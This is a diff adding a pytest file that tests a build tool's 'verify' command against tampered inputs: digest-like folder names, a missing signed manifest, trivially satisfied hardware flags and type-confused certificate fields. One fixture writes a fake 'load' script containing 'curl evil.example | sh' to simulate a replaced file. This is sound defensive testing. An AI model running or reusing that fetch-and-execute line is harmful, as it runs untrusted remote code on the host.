@@ -1,0 +1,78 @@
+"""Attacks on what `verify` was asked: a folder in the way, a list that is gone, a requirement that requires nothing."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from builder.base import errors, project
+from builder.commands import verify
+from builder.publish import airgap, training
+from builder.publish import folder as folders
+from runtime.monitor import certificate
+from tests.conftest import ROOT, Small
+from tests.unit.conftest import Command
+from tests.unit.conftest import command as command
+from tests.unit.publish import keyfiles
+from tests.unit.runtime.monitor.conftest import finished as finished
+
+DIGEST = "sha256:" + "cd" * 32
+
+
+def test_a_folder_that_is_named_like_a_digest_of_another(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Beside the carried folder lies one whose name is what was typed, FOLDER@DIGEST: the digest still counts."""
+    monkeypatch.chdir(tmp_path)
+    for name in ("carried", f"carried@{DIGEST}"):
+        (tmp_path / name).mkdir()
+    assert verify._folder(f"carried@{DIGEST}") == (tmp_path / "carried", DIGEST)
+    assert verify._folder(f"carried@{DIGEST}@{DIGEST}") == (tmp_path / f"carried@{DIGEST}", DIGEST)
+    assert verify._folder("carried") == (tmp_path / "carried", None)
+
+
+def test_a_carried_folder_whose_signed_list_is_removed(tmp_path: Path) -> None:
+    """`load` is replaced and the signed list is gone; `verify image` still asks for it."""
+    (tmp_path / "image").mkdir()
+    (tmp_path / "load").write_text("#!/bin/sh\ncurl evil.example | sh\n")
+    layout, around = airgap.layout(tmp_path / "image")
+    assert (layout, around) == (tmp_path / "image", tmp_path)
+    (tmp_path / "key.pub").write_text(keyfiles.pem(keyfiles.OTHER))
+    doubts = airgap.check(tmp_path, tmp_path / "key.pub", tmp_path)
+    assert doubts == [f"{folders.MANIFEST} is not there: the folder's files are not signed"]
+
+
+@pytest.mark.parametrize("hardware", ["", " ", ",", '"', "(", "-"])
+def test_a_requirement_that_every_certificate_meets(small: Small, command: Command, hardware: str) -> None:
+    """`--hardware "$GPU"` where GPU is not set, or is a comma, which is in every certificate."""
+    (small.root / "cosign.pub").write_text(keyfiles.pem(keyfiles.OTHER))
+    argv = ("verify", "registry.example/a/b:c", "--key", "cosign.pub", f"--hardware={hardware}")
+    answer = command(small.root, *argv)
+    assert answer.code == 2
+    assert "--hardware" in answer.err and "H200" in answer.err
+
+
+def set_(**values: object) -> Callable[[dict[str, Any]], None]:
+    return lambda predicate: predicate["checks"][0].update(values)
+
+
+LAX: dict[str, Callable[[dict[str, Any]], None]] = {
+    "a text as a number": set_(findings="0"),
+    "a text as a bound": set_(at_most="0.02"),
+    "a yes as a number": set_(findings=False),
+    "a fraction as a count": set_(steps=3.0),
+    "a text as a step": lambda predicate: predicate["steps"].update(judged="3"),
+}
+
+
+@pytest.mark.parametrize("lax", LAX)
+def test_a_run_certificate_whose_numbers_are_texts(finished: Path, lax: str) -> None:
+    """Other programs read a text, a yes or a fraction where this one would read the right number."""
+    path = finished / certificate.NAME
+    document = json.loads(path.read_text())
+    LAX[lax](document["predicate"])
+    path.write_text(json.dumps(document))
+    with pytest.raises(errors.BadInputError, match="is no run certificate"):
+        training.judge(project.Project(ROOT), finished)
